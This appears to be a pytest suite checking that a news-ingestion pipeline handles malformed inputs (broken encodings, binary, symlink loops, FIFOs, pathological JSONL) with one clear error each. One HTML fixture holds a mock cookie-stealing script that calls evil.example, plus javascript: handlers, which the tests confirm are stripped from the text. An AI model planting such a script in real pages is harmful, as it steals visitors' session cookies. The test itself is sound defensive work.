"""Bad inputs, end to end through `pipeline ingest`: each one has a stated, tested outcome.

One folder holds sixteen kinds of awkward input side by side with good
files, as a real scrape would. The command must read every good file, turn
every bad one into exactly one `error: PATH[:LINE]: reason` line on stderr
and a 'failed' row in `sources`, exit with 3, and leave a store that passes
SQLite's integrity check. Running it again adds nothing and reports the same
problems. (Stage-level tests of the same readers live in
tests/test_ingest_inputs.py; here the whole command is the unit.)
"""

from __future__ import annotations

import gzip
import json
import os
import subprocess
from pathlib import Path

import pytest
from reliability_support import (
    ARABIC_ARTICLE,
    ENGLISH_ARTICLE,
    SEEDS,
    bench_module,
    cannot_read_as_child,
    child_env,
    cli,
    counts,
    drop_file_read_override,
    pieces_per_source,
    pipeline_argv,
    reading,
    stderr_lines,
    store_snapshot,
    table,
    write_external_translations,
)
from sqlite_surgery import integrity

from pipeline.ingest import cut_dump
from pipeline.records import content_id

INVISIBLE = "\u200f\u200e\u202b\u202c\u200b\u200d\u2066\u2069\ufeff"
SCRIPT_MARK = "SECRET_JS_PAYLOAD"
HTML_WITH_SCRIPTS = f"""<!DOCTYPE html><html><head><title>Summit | Example</title>
<script>var tracker = "{SCRIPT_MARK}"; fetch("https://evil.example/?c=" + document.cookie);</script>
<style>body {{ background: url("javascript:{SCRIPT_MARK}") }}</style></head>
<body onload="alert('{SCRIPT_MARK}')"><nav>Home | World</nav><article><h1>Summit in Baghdad</h1>
<p>Leaders gathered in Baghdad on Saturday for a regional summit aimed at easing tensions across the Middle East.</p>
<script>document.write("{SCRIPT_MARK}")</script><noscript>{SCRIPT_MARK}</noscript>
<p onclick="alert('{SCRIPT_MARK}')">The meeting was attended by the presidents of France and Egypt and by the king of Jordan.</p>
<iframe src="javascript:alert('{SCRIPT_MARK}')"></iframe></article></body></html>"""


def arabic_articles() -> list[str]:
    """Three distinct Arabic articles: the fixture one and two built from the seeds' Arabic pieces."""
    seed = (SEEDS / "003_d3a64df3fb8f3d34.txt").read_text(encoding="utf-8")
    arabic = [p for p in cut_dump(seed).pieces if "\u0627" in p.text[:40]]
    articles = [ARABIC_ARTICLE]
    for piece in arabic[:2]:
        articles.append(f"{piece.title}\n\nالأربعاء 18 آب 2021\n\n" + "\n\n".join(piece.paragraphs[:3]) + "\n")
    return articles


def expected_piece_id(article: str) -> str:
    (piece,) = cut_dump(article).pieces
    return content_id(piece.text)


def build_inputs(root: Path) -> dict[str, Path]:
    """The awkward folder; returns name → path of every input in it (and the missing one)."""
    root.mkdir()
    a, b, c = arabic_articles()
    mixed = root / "mixed"
    mixed.mkdir()
    files: dict[str, Path] = {
        "utf8": mixed / "a_utf8.txt",
        "cp1256": mixed / "b_cp1256.txt",
        "utf16": mixed / "c_utf16.txt",
        "cp1256_copy_of_utf8": mixed / "d_copy_cp1256.txt",
        "empty": root / "empty.txt",
        "binary": root / "photo.txt",
        "truncated_gz": root / "truncated.txt.gz",
        "punctuation": root / "punctuation.txt",
        "digits": root / "digits.txt",
        "controls": root / "controls.txt",
        "html_scripts": root / "page.html",
        "jsonl_broken": root / "pieces.jsonl",
        "symlink_loop": root / "sub" / "up",
        "self_link": root / "self.txt",
        "chrome_only": root / "chrome.txt",
        "english_crlf_bom": root / "english.txt",
        "missing": root.parent / "does-not-exist.txt",
    }
    files["utf8"].write_text(a, encoding="utf-8")
    files["cp1256"].write_bytes(b.encode("cp1256"))
    files["utf16"].write_bytes(c.encode("utf-16"))  # with its byte-order mark
    files["cp1256_copy_of_utf8"].write_bytes(a.encode("cp1256"))
    files["empty"].write_bytes(b"")
    files["binary"].write_bytes(bytes(range(256)) * 16)
    files["truncated_gz"].write_bytes(gzip.compress(ENGLISH_ARTICLE.encode() * 60)[:-50])
    files["punctuation"].write_text("!!! ... ؟؟؟ ،،، ---\n\n«» () [] … !!!\n\n*** ### ???\n", encoding="utf-8")
    files["digits"].write_text("123 456 789\n\n2021 2022 2023 ٠١٢٣٤٥٦٧٨٩\n\n3.14159 2.71828\n", encoding="utf-8")
    salted = "".join(ch + (INVISIBLE[i % len(INVISIBLE)] if ch == " " and i % 7 == 0 else "") for i, ch in enumerate(a))
    files["controls"].write_text("\u202b" + salted, encoding="utf-8")
    files["html_scripts"].write_text(HTML_WITH_SCRIPTS, encoding="utf-8")
    lines = [
        json.dumps({"text": f"Article {i} about the summit in Baghdad. It has two sentences.", "lang": "en"}) for i in range(1, 6)
    ]
    lines[2] = '{"text": "the third line is cut off in the middle'
    files["jsonl_broken"].write_text("\n".join(lines) + "\n", encoding="utf-8")
    (root / "sub").mkdir()
    os.symlink(root, files["symlink_loop"])
    os.symlink("self.txt", files["self_link"])
    files["chrome_only"].write_text("Related News\n\nLink to comment\n\nShare on other sites\n", encoding="utf-8")
    files["english_crlf_bom"].write_bytes(("\ufeff" + ENGLISH_ARTICLE).replace("\n", "\r\n").encode("utf-8"))
    return files


# What each input must come to: (status in `sources`, a phrase of the error or None).
FAILS = {
    "empty": "empty file",
    "binary": "binary file",
    "truncated_gz": "truncated .gz",
    "symlink_loop": "symlink loop",
    "self_link": "symlink loop",
    "missing": "no such file or directory",
}
NO_ARTICLE = {"punctuation", "digits", "chrome_only"}  # read fine, nothing in them is an article: a warning


def sources_by_name(db: Path) -> dict[str, tuple[str, str | None, str | None, int | None]]:
    with reading(db) as store:
        return {Path(s.path).name: (s.status, s.error, s.encoding, s.pieces) for s in store.sources()}


def test_sixteen_kinds_of_bad_input_in_one_folder(tmp_path):
    files = build_inputs(tmp_path / "dumps")
    db = tmp_path / "store.sqlite"
    proc = cli("ingest", tmp_path / "dumps", files["missing"], "--db", db)
    assert proc.returncode == 3, proc.stderr
    errors = stderr_lines(proc)
    warnings = stderr_lines(proc, "warning: ")

    # every failure is exactly one line naming the file and the reason, and is recorded
    sources = sources_by_name(db)
    for key, phrase in FAILS.items():
        name = files[key].name
        mine = [line for line in errors if f"{name}:" in line]
        assert len(mine) == 1 and phrase in mine[0], (key, mine)
        assert sources[name][0] == "failed" and phrase in sources[name][1]
    # the broken JSONL line is reported with its number; the other four lines are kept
    (jsonl_error,) = [line for line in errors if "pieces.jsonl" in line]
    assert jsonl_error.startswith(f"error: {files['jsonl_broken']}:3: not valid JSON")
    assert sources["pieces.jsonl"][:2] == ("partial", f"{files['jsonl_broken']}:3: " + jsonl_error.split(":3: ", 1)[1])
    pieces = table(db, "pieces")
    jsonl_texts = {p["text"] for p in pieces if p["text"].startswith("Article ") and " about the summit" in p["text"]}
    assert jsonl_texts == {f"Article {i} about the summit in Baghdad. It has two sentences." for i in (1, 2, 4, 5)}
    assert len(errors) == len(FAILS) + 1

    # text-free files are read, yield no piece, and say so in a warning (not an error)
    for key in NO_ARTICLE:
        assert sources[files[key].name][0] == "ingested" and sources[files[key].name][3] == 0
        assert any(files[key].name in w and "no article found" in w for w in warnings), key

    # mixed encodings in one folder: decoded right (same ids as from UTF-8), the duplicate stored once
    a, b, c = arabic_articles()
    assert {sources[files[k].name][2] for k in ("utf8", "cp1256", "utf16", "cp1256_copy_of_utf8")} == {
        "utf-8",
        "cp1256",
        "utf-16",
    }
    ids = {p["id"] for p in pieces}
    assert {expected_piece_id(a), expected_piece_id(b), expected_piece_id(c)} <= ids
    # invisible direction marks and zero-width characters: the same article (one piece, three
    # sources: UTF-8, cp1256 and the salted copy), its text kept as read, no letter lost or added
    with reading(db) as store:
        path_of = {s.id: s.path for s in store.sources()}
        linked = {
            Path(path_of[ps["source_id"]]).name for ps in store.rows("piece_sources") if ps["piece_id"] == expected_piece_id(a)
        }
    assert linked == {"a_utf8.txt", "d_copy_cp1256.txt", "controls.txt"}
    (stored,) = [p["text"] for p in pieces if p["id"] == expected_piece_id(a)]
    assert any(ch in stored for ch in INVISIBLE)  # controls.txt is read first (sorted order), kept verbatim
    assert _letters(stored) == _letters(cut_dump(a).pieces[0].text)
    assert len(ids) == 3 + 4 + 1 + 1  # three Arabic articles, four JSONL lines, the HTML page, the English dump

    # HTML: the article's text, none of its scripts, handlers or styles
    (html_text,) = [p["text"] for p in pieces if p["text"].startswith("Leaders gathered")]
    assert SCRIPT_MARK not in html_text and "<" not in html_text and "alert(" not in html_text
    assert html_text.endswith("by the king of Jordan.")

    # a UTF-8 BOM and Windows line endings change nothing
    assert content_id(cut_dump(ENGLISH_ARTICLE).pieces[0].text) in ids

    assert integrity(db) == "ok"
    # Again: nothing new, the same failures reported, the store unchanged.
    before = store_snapshot(db)
    again = cli("ingest", tmp_path / "dumps", files["missing"], "--db", db)
    assert again.returncode == 3
    assert store_snapshot(db) == before
    assert {line.split(": ", 2)[1].split(":")[0] for line in stderr_lines(again)} >= {str(files[k]) for k in FAILS}
    assert integrity(db) == "ok"


def _letters(text: str) -> str:
    return "".join(ch for ch in text if ch.isalnum())


def test_an_unreadable_file_is_one_error_and_the_rest_is_read(tmp_path):
    """chmod 000. As root the child is started without the capabilities that let root read anything."""
    folder = tmp_path / "dumps"
    folder.mkdir()
    locked = folder / "locked.txt"
    locked.write_text(ARABIC_ARTICLE, encoding="utf-8")
    (folder / "open.txt").write_text(ENGLISH_ARTICLE, encoding="utf-8")
    locked.chmod(0)
    try:
        if not cannot_read_as_child(locked):
            pytest.skip("this environment cannot take away the right to read a mode-000 file (root without CAP_SETPCAP)")
        db = tmp_path / "store.sqlite"
        proc = subprocess.run(
            pipeline_argv("ingest", folder, "--db", db),
            capture_output=True,
            text=True,
            timeout=120,
            env=child_env(),
            preexec_fn=drop_file_read_override,
        )
    finally:
        locked.chmod(0o644)
    assert proc.returncode == 3, proc.stderr
    assert stderr_lines(proc) == [f"error: {locked}: cannot read: permission denied"]
    assert sources_by_name(db)["locked.txt"][:2] == ("failed", f"{locked}: cannot read: permission denied")
    assert counts(db).pieces == 1
    # readable again: the next run picks it up
    assert cli("ingest", folder, "--db", db).returncode == 0
    assert counts(db).pieces == 2 and integrity(db) == "ok"


def test_a_50_mb_single_line_fails_fast_in_little_memory(tmp_path):
    huge = tmp_path / "one-line.txt"
    with open(huge, "wb") as handle:
        for _ in range(50):
            handle.write("كلمة word ".encode() * 80_000)  # ~1 MB, no newline anywhere
    assert huge.stat().st_size >= 50_000_000
    good = tmp_path / "good.txt"
    good.write_text(ENGLISH_ARTICLE, encoding="utf-8")
    db = tmp_path / "store.sqlite"
    # the same command on the good file alone: the memory the pipeline needs anyway (imports, the store)
    baseline = bench_module().measure("ingest", pipeline_argv("ingest", good, "--db", tmp_path / "baseline.sqlite"), child_env())
    run = bench_module().measure("ingest", pipeline_argv("ingest", huge, good, "--db", db), child_env())
    assert baseline.exit_code == 0 and run.exit_code == 3
    (error,) = [line for line in run.output.splitlines() if line.startswith("error:")]
    assert error.startswith(f"error: {huge}: ") and "max_line_chars" in error
    assert run.seconds < 30
    over = run.peak_rss_mb - baseline.peak_rss_mb
    assert over < 40, f"the line must be refused while streaming, not loaded (50 MB as str is 100+ MB): +{over:.1f} MB"
    assert counts(db).pieces == 1


def test_no_input_at_all_and_only_bad_inputs(tmp_path):
    db = tmp_path / "store.sqlite"
    proc = cli("ingest", tmp_path / "nope", tmp_path / "nope.jsonl", "--db", db)
    assert proc.returncode == 3
    assert [line.split(": ", 2)[2] for line in stderr_lines(proc)] == ["no such file or directory"] * 2
    assert counts(db).pieces == 0 and integrity(db) == "ok"
    usage = cli("ingest", "--db", db)  # no INPUT: a usage error, not a crash
    assert usage.returncode == 2 and "Traceback" not in usage.stderr


def test_the_same_folder_through_pipeline_run(tmp_path, tiny_model_dir):
    """The whole run goes on past the bad files: exit 3, outputs written, every good piece processed."""
    files = build_inputs(tmp_path / "dumps")
    db, out = tmp_path / "store.sqlite", tmp_path / "out"
    proc = cli("run", tmp_path / "dumps", files["missing"], "--db", db, "--out", out, "--model", tiny_model_dir)
    assert proc.returncode == 3, proc.stderr
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["exit_code"] == 3
    for key, phrase in FAILS.items():  # each failure is in summary.json too, with its reason
        assert any(str(files[key]) in m and phrase in m for m in summary["messages"]), key
    assert any(f"{files['jsonl_broken']}:3: not valid JSON" in m for m in summary["messages"])
    pieces = [json.loads(line) for line in (out / "pieces.jsonl").read_text(encoding="utf-8").splitlines()]
    by_lang: dict[str, list[dict]] = {}
    for piece in pieces:
        by_lang.setdefault(piece["lang"], []).append(piece)
    assert len(by_lang["ar"]) == 3 and all(p["status"] == "translated" and p["translation"] for p in by_lang["ar"])
    assert len(by_lang["en"]) == 4 + 1 + 1 and all(p["status"] == "english" for p in by_lang["en"])
    assert set(by_lang) == {"ar", "en"}  # punctuation and digits made no piece, nothing was sent to the model for them
    # invisible controls never reach the model: what it translated has none of them
    sources = [t["source_text"] for t in table(db, "translations")]
    assert sources and not any(ch in s for s in sources for ch in INVISIBLE)
    assert counts(db).segments_pending == 0
    assert integrity(db) == "ok"


# -- round two (issue 14): files that are not files, lines that are not text, the pipeline's own outputs ----------


def test_a_fifo_or_a_device_named_as_an_input_is_refused_without_waiting(tmp_path):
    """Opening a FIFO waits for a writer and /dev/zero never ends: both are refused by their type, at once."""
    folder = tmp_path / "dumps"
    folder.mkdir()
    os.mkfifo(folder / "pipe.txt")  # inside a folder, with a wanted name
    os.mkfifo(tmp_path / "named.txt")  # named on the command line
    (folder / "good.txt").write_text(ENGLISH_ARTICLE, encoding="utf-8")
    db = tmp_path / "store.sqlite"
    proc = cli("ingest", tmp_path / "named.txt", "/dev/zero", folder, "--db", db, timeout=60)
    assert proc.returncode == 3, proc.stderr
    assert sorted(stderr_lines(proc)) == sorted(
        [
            f"error: {tmp_path / 'named.txt'}: is a FIFO (named pipe), not a regular file",
            "error: /dev/zero: is a character device, not a regular file",
            f"error: {folder / 'pipe.txt'}: is a FIFO (named pipe), not a regular file",
        ]
    )
    assert counts(db).pieces == 1
    assert sources_by_name(db)["named.txt"][0] == "failed"


def test_evaluate_and_align_refuse_a_fifo_or_a_device_without_waiting(tmp_path):
    fifo = tmp_path / "hyp.en"
    os.mkfifo(fifo)
    good = tmp_path / "ref.en"
    good.write_text("the summit was held\n", encoding="utf-8")
    for args, named, kind, role in (
        (("--ref", "/dev/zero", "--hyp", f"a={good}"), "/dev/zero", "a character device", "reference"),
        (("--ref", good, "--hyp", f"a={fifo}"), str(fifo), "a FIFO (named pipe)", "hypothesis (a)"),
        (("--ref", tmp_path, "--hyp", f"a={good}"), str(tmp_path), "a folder", "reference"),
    ):
        proc = cli("evaluate", *args, timeout=60)
        assert proc.returncode == 3, proc.stderr
        assert stderr_lines(proc) == [f"error: {named}: the {role} path is {kind}, not a regular file"]
    proc = cli("align", "--source", fifo, "--target", good, "--out", tmp_path / "out", timeout=60)
    assert proc.returncode == 3 and stderr_lines(proc) == [
        f"error: {fifo}: cannot read: is a FIFO (named pipe), not a regular file"
    ]
    written = cli("evaluate", "--ref", good, "--hyp", f"a={good}", "--paired", "none", "--out", fifo, timeout=60)
    assert written.returncode == 6  # writing the result into a FIFO would wait for a reader forever
    assert stderr_lines(written) == [f"error: {fifo}: is a FIFO (named pipe), not a regular file; --out takes a file to write"]


PATHOLOGICAL_JSONL = {
    2: ('{"text": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
    4: ('{"text": "The summit \\ud800 in Baghdad was held on Saturday."}', "field 'text' holds a lone surrogate (\\ud800)"),
    5: ('{"text": "Article five.", "title": "\\udfff"}', "field 'title' holds a lone surrogate (\\udfff)"),
    6: ('{"text": "Article six about the summit.", "n": ' + "9" * 5000 + "}", "Exceeds the limit"),
}


def test_one_pathological_jsonl_line_fails_that_line_only(tmp_path):
    """Deep nesting (RecursionError), a lone surrogate (valid JSON, not text), a 5,000-digit number: per line."""
    lines = [
        json.dumps({"text": f"Article {i} about the summit in Baghdad. It has two sentences.", "lang": "en"}) for i in range(1, 9)
    ]
    for number, (line, _) in PATHOLOGICAL_JSONL.items():
        lines[number - 1] = line
    path = tmp_path / "pieces.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = tmp_path / "store.sqlite"
    proc = cli("ingest", path, "--db", db)
    assert proc.returncode == 3, proc.stderr
    assert "Traceback" not in proc.stderr
    errors = stderr_lines(proc)
    assert len(errors) == len(PATHOLOGICAL_JSONL)
    for (number, (_, reason)), error in zip(sorted(PATHOLOGICAL_JSONL.items()), errors):
        assert error.startswith(f"error: {path}:{number}: ") and reason in error, error
    texts = sorted(p["text"] for p in table(db, "pieces"))
    assert texts == [f"Article {i} about the summit in Baghdad. It has two sentences." for i in (1, 3, 7, 8)]
    assert sources_by_name(db)["pieces.jsonl"][0] == "partial"
    assert integrity(db) == "ok"


def test_an_output_folder_inside_the_input_folder_is_never_read_back(tmp_path, tiny_model_dir):
    """--out inside an input folder: the next run does not ingest the pipeline's own exports (nor an older run's)."""
    folder = tmp_path / "dumps"
    folder.mkdir()
    (folder / "arabic.txt").write_text(ARABIC_ARTICLE, encoding="utf-8")
    (folder / "english.txt").write_text(ENGLISH_ARTICLE, encoding="utf-8")
    db = folder / "store.txt"  # the store inside the input folder too, under a name the walk would take
    first = cli("run", folder, "--db", db, "--out", folder / "out", "--model", tiny_model_dir)
    assert first.returncode == 0, first.stderr
    assert (folder / "out" / "pieces.jsonl").is_file() and (folder / "out" / "report.html").is_file()
    before = store_snapshot(db)
    again = cli("run", folder, "--db", db, "--out", folder / "out", "--model", tiny_model_dir)
    assert again.returncode == 0, again.stderr
    warnings = stderr_lines(again, "warning: ")
    assert f"warning: {folder / 'out'}: the output folder (output.dir): not read as input" in warnings
    assert f"warning: {db}: the store itself: not read as input" in warnings
    assert store_snapshot(db) == before  # still two pieces, from the two dumps only
    # the folder of an earlier run, under another name now: recognised by its summary.json
    (folder / "out").rename(folder / "old-out")
    third = cli("ingest", folder, "--db", db)
    assert third.returncode == 0, third.stderr
    assert (
        f"warning: {folder / 'old-out'}: an output folder of this pipeline (it holds its summary.json): not read as input"
        in stderr_lines(third, "warning: ")
    )
    assert store_snapshot(db) == before
    assert sorted(Path(s).name for s in pieces_per_source(db)) == ["arabic.txt", "english.txt"]


def test_an_html_page_over_max_html_mb_is_refused_with_the_reason_and_the_rest_is_read(tmp_path):
    folder = tmp_path / "pages"
    folder.mkdir()
    paragraph = "<p>Leaders gathered in Baghdad on Saturday for a regional summit aimed at easing tensions.</p>\n"
    (folder / "big.html").write_text(
        "<html><body><article><h1>Big</h1>" + paragraph * 2000 + "</article></body></html>", encoding="utf-8"
    )
    (folder / "small.html").write_text(HTML_WITH_SCRIPTS, encoding="utf-8")
    db = tmp_path / "store.sqlite"
    proc = cli("ingest", folder, "--db", db, "--set", "ingest.max_html_mb=0.1")
    assert proc.returncode == 3, proc.stderr
    (error,) = stderr_lines(proc)
    assert error.startswith(f"error: {folder / 'big.html'}: HTML page is 0.2 MB, over max_html_mb 0.1: a page is parsed whole")
    assert counts(db).pieces == 1


def test_pathological_lines_in_other_jsonl_inputs_are_one_line_errors(tmp_path):
    """The JSONL that evaluate --import-refs and align --source/--target read: all or nothing, never a traceback."""
    db = tmp_path / "store.sqlite"
    dump = tmp_path / "english.txt"
    dump.write_text(ENGLISH_ARTICLE, encoding="utf-8")
    assert cli("ingest", dump, "--db", db, "--quiet").returncode == 0
    good = tmp_path / "good.jsonl"
    good.write_text(json.dumps({"text": "The summit in Baghdad was held on Saturday.", "lang": "en"}) + "\n", encoding="utf-8")
    for line, reason in (
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ('{"piece_id": "x", "text": "\\ud800"}', "lone surrogate"),
    ):
        bad = tmp_path / "bad.jsonl"
        bad.write_text(line + "\n", encoding="utf-8")
        refs = cli("evaluate", "--db", db, "--import-refs", bad)
        assert refs.returncode == 3 and "Traceback" not in refs.stderr, refs.stderr
        assert stderr_lines(refs)[0].startswith(f"error: {bad}:1: ") and reason in stderr_lines(refs)[0]
        aligned = cli("align", "--source", bad, "--target", good, "--out", tmp_path / "out")
        assert aligned.returncode == 3 and "Traceback" not in aligned.stderr, aligned.stderr
        assert stderr_lines(aligned) == [stderr_lines(aligned)[0]] and reason in stderr_lines(aligned)[0]


def test_a_translation_as_paragraphs_is_read_alike_by_ingest_and_align(tmp_path):
    """The same JSONL (`translation` as a list of paragraphs, the system in `system`) through both readers of the contract."""
    external = tmp_path / "external.jsonl"
    write_external_translations(external, count=3)
    rows = [json.loads(line) for line in external.read_text(encoding="utf-8").splitlines()]
    for row in rows:
        row["translation"] = row["translation"].split("\n\n")  # one string per paragraph
        row["system"] = row.pop("model")
    as_paragraphs = tmp_path / "paragraphs.jsonl"
    as_paragraphs.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
    english = tmp_path / "english.jsonl"
    english_rows = [{"text": t, "lang": "en"} for t in ["\n\n".join(r["translation"]) for r in rows]]
    english.write_text("\n".join(json.dumps(r) for r in english_rows) + "\n", encoding="utf-8")

    ingested = cli("ingest", as_paragraphs, "--db", tmp_path / "store.sqlite", "-q")
    assert ingested.returncode == 0, ingested.stderr
    aligned = cli("align", "--source", as_paragraphs, "--target", english, "--out", tmp_path / "out")
    assert aligned.returncode == 0, aligned.stderr
    matches = [json.loads(line) for line in (tmp_path / "out" / "matches.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(matches) == 3  # each translation found its English text
    for wrong in ({"translation": [1, 2]}, {"translation": {"en": "x"}}):
        bad = tmp_path / "bad.jsonl"
        bad.write_text(json.dumps({"text": "نص عربي", **wrong}) + "\n", encoding="utf-8")
        proc = cli("align", "--source", bad, "--target", english, "--out", tmp_path / "out2")
        assert proc.returncode == 3 and stderr_lines(proc) == [
            f"error: {bad}:1: 'translation' must be a string or a list of strings (one per paragraph)"
        ], proc.stderr


# -- HTML and line ends a careless scraper writes (issue 25) ---------------------------------------------

_PARAGRAPH = (
    "<p>The summit in Baghdad was held on Saturday with the leaders of Egypt, Jordan and France, who discussed the "
    "tensions of the region and the role of Iraq as a mediator between its neighbours.</p>"
)


def _article(n: int = 0) -> str:
    return (
        f"<article><h1>Iraq hosts regional summit number {n}</h1><time datetime='2021-08-28'>28 Aug 2021</time>"
        + _PARAGRAPH.replace("Saturday", f"Saturday ({n})") * 4
        + "</article>"
    )


def _ingested_titles(db: Path) -> list[str]:
    with reading(db) as store:
        return sorted(p.title or "" for p in store.load_pieces())


def test_html_nested_past_the_parsers_depth_limit_keeps_its_text(tmp_path):
    for depth in (300, 3000):
        page = tmp_path / f"deep{depth}.html"
        page.write_text("<html><body>" + "<div>" * depth + _article(depth) + "</div>" * depth + "</body></html>")
        db = tmp_path / f"deep{depth}.sqlite"
        proc = cli("ingest", page, "--db", db, "--no-detect")
        assert proc.returncode == 0, proc.stderr
        assert _ingested_titles(db) == [f"Iraq hosts regional summit number {depth}"]
        (piece,) = table(db, "pieces")
        assert "Saturday" in piece["text"] and "nested deeper than the HTML parser's limit" in piece["ingest_notes"]


def test_json_ld_nested_too_deeply_is_ignored_and_the_page_kept(tmp_path):
    item = '{"@type": "NewsArticle", "headline": "x"}'
    blocks = {
        "arrays": "[" * 980 + item + "]" * 980,
        "graph": '{"@graph": ' * 980 + f"[{item}]" + "}" * 980,
        "very-deep": "[" * 100_000 + "]" * 100_000,
    }
    for name, block in blocks.items():
        page = tmp_path / f"{name}.html"
        page.write_text(f"<html><head><script type='application/ld+json'>{block}</script></head><body>{_article()}</body></html>")
        db = tmp_path / f"{name}.sqlite"
        proc = cli("ingest", page, "--db", db, "--no-detect")
        assert proc.returncode == 0, (name, proc.stderr)
        assert _ingested_titles(db) == ["Iraq hosts regional summit number 0"], name


def test_minified_html_on_one_line_is_bounded_by_max_html_mb_not_max_line_chars(tmp_path):
    page = tmp_path / "minified.html"
    page.write_text("<html><body>" + "".join(_article(n) for n in range(30)) + "</body></html>")  # one line
    assert "\n" not in page.read_text() and page.stat().st_size > 20_000
    db = tmp_path / "store.sqlite"
    proc = cli("ingest", page, "--db", db, "--no-detect", "--set", "ingest.max_line_chars=10000")
    assert proc.returncode == 0, proc.stderr
    assert len(_ingested_titles(db)) == 30
    dump = tmp_path / "dump.txt"  # a text dump's line is still bounded
    dump.write_text("word " * 5000, encoding="utf-8")
    proc = cli("ingest", dump, "--db", db, "--no-detect", "--set", "ingest.max_line_chars=10000")
    assert proc.returncode == 3 and "max_line_chars" in proc.stderr


def test_a_dump_with_cr_only_line_ends_reads_like_the_same_dump_with_lf(tmp_path):
    articles = "\n\n".join(
        ENGLISH_ARTICLE.replace("Iraq hosts regional summit", f"Iraq hosts regional summit {n}").replace(
            "Heads of state", f"In meeting {n}, heads of state"
        )
        for n in range(40)
    )
    lf, cr = tmp_path / "lf" / "dump.txt", tmp_path / "cr" / "dump.txt"
    for path, text in ((lf, articles), (cr, articles.replace("\n", "\r"))):
        path.parent.mkdir()
        path.write_bytes(text.encode("utf-8"))
    assert len(cr.read_bytes()) > 4 * 2000  # past the first pass's byte bound for max_line_chars=2000
    for path in (lf, cr):
        proc = cli("ingest", path, "--db", path.with_suffix(".sqlite"), "--no-detect", "--set", "ingest.max_line_chars=2000")
        assert proc.returncode == 0, proc.stderr
    assert _ingested_titles(cr.with_suffix(".sqlite")) == _ingested_titles(lf.with_suffix(".sqlite"))
    assert len(_ingested_titles(cr.with_suffix(".sqlite"))) == 40


def test_a_page_of_navigation_only_gives_no_article(tmp_path):
    links = "".join(f"<li><a href='/section/{n}'>Section {n}</a></li>" for n in range(40))
    pages = {
        "nav.html": f"<nav><ul>{links}</ul></nav><footer>© 2021 Naharnet. All rights reserved.</footer>",
        "menu.html": f"<div class='menu'><ul>{links}</ul></div><div class='legal'>Copyright 2021 Naharnet</div>",
        "role.html": f"<div role='navigation'><p><a href='/a'>Politics</a> | <a href='/b'>Economy</a></p></div><ol>{links}</ol>",
    }
    for name, body in pages.items():
        page = tmp_path / name
        page.write_text(f"<html><head><title>Naharnet</title></head><body>{body}</body></html>")
        db = tmp_path / f"{name}.sqlite"
        proc = cli("ingest", page, "--db", db, "--no-detect")
        assert proc.returncode == 0, (name, proc.stderr)
        assert f"warning: {page}: no article found, only page chrome" in proc.stderr, (name, proc.stderr)
        assert _ingested_titles(db) == [], name


def test_windows_arabic_under_a_latin_label_or_already_mojibake_is_read_as_arabic_with_a_warning(tmp_path):
    """cp1256 bytes declared ISO-8859-1 or windows-1252, or decoded that way and saved as UTF-8: the same piece as UTF-8."""
    paragraphs = "".join(f"<p>{p}</p>" for p in ARABIC_ARTICLE.split("\n\n")[3:])
    title = ARABIC_ARTICLE.splitlines()[0]

    def page(head: str) -> str:
        return f"<html><head>{head}</head><body><article><h1>{title}</h1>{paragraphs}</article></body></html>"

    folder = tmp_path / "pages"
    folder.mkdir()
    (folder / "utf8.html").write_text(page("<meta charset='utf-8'>"), encoding="utf-8")
    labelled = {
        "latin1.html": page("<meta charset='ISO-8859-1'>"),
        "cp1252.html": page("<meta http-equiv='Content-Type' content='text/html; charset=windows-1252'>"),
    }
    for name, html in labelled.items():
        (folder / name).write_bytes(html.encode("cp1256"))
    mojibake = page("<meta charset='utf-8'>").encode("cp1256").decode("cp1252")  # what a scraper saved
    (folder / "mojibake.html").write_text(mojibake, encoding="utf-8")
    german = "<p>Über die Grüße der Mädchen wurde später größer geschätzt, Öl für Äpfel und Bäume.</p>" * 3
    (folder / "german.html").write_bytes(
        f"<html><head><meta charset='ISO-8859-1'></head><body><article><h1>Grüße aus Köln</h1>{german}</article></body></html>".encode(
            "latin-1"
        )
    )
    db = tmp_path / "store.sqlite"
    proc = cli("ingest", folder, "--db", db)
    assert proc.returncode == 0, proc.stderr
    warnings = stderr_lines(proc, "warning: ")
    for name in ("latin1.html", "cp1252.html"):
        assert any(w.startswith(f"warning: {folder / name}: it declares charset") and "read as cp1256" in w for w in warnings)
    assert any(w.startswith(f"warning: {folder / 'mojibake.html'}: its text is Windows Arabic") for w in warnings)
    assert not any("german.html" in w for w in warnings)
    with reading(db) as store:
        pieces = store.load_pieces()
        links = store.rows("piece_sources")
    arabic = [p for p in pieces if p.lang == "ar"]
    assert len(arabic) == 1 and arabic[0].title == title  # four files, one piece: the same text
    assert len([link for link in links if link["piece_id"] == arabic[0].id]) == 4
    (german_piece,) = [p for p in pieces if p.lang != "ar"]
    assert german_piece.title == "Grüße aus Köln" and "Mädchen" in german_piece.text
